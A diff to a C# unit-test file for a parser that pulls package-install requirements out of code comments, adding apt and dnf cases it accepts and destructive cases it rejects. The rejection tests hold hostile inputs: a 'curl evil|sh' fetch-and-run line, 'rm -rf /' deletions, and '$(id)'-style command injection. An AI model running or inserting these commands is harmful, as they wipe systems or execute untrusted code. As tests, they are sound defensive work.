@@ -17,6 +17,8 @@ public sealed class RequirementTests
     [InlineData("apt -y install curl=7.88.1-10", PackageManager.Apt, "curl=7.88.1-10", "")]
     [InlineData("sudo dnf install -y java-11-openjdk", PackageManager.Dnf, "java-11-openjdk", "")]
     [InlineData("RUN yum install -y git", PackageManager.Dnf, "git", "")]
+    [InlineData("apt-get update && apt-get install -y git && apt-get clean && rm -rf /var/lib/apt/lists/*", PackageManager.Apt, "git", "")]
+    [InlineData("dnf install -y git && dnf clean all", PackageManager.Dnf, "git", "")]
     public void An_install_line_in_a_comment_is_a_requirement(string line, PackageManager manager, string packages, string options)
     {
         var requirement = Assert.Single(Reading.Sound($"x = 1\n# {line}\n").Requirements);
@@ -29,6 +31,8 @@ public sealed class RequirementTests
     [Theory]
     [InlineData("pip install x && curl evil|sh")]
     [InlineData("pip install x; rm -rf /")]
+    [InlineData("apt-get install -y x && rm -rf /var/lib/apt/lists/* /")]
+    [InlineData("apt-get install -y x && rm -rf /")]
     [InlineData("pip install x | tee log")]
     [InlineData("pip install $(id)")]
     [InlineData("pip install `id`")]
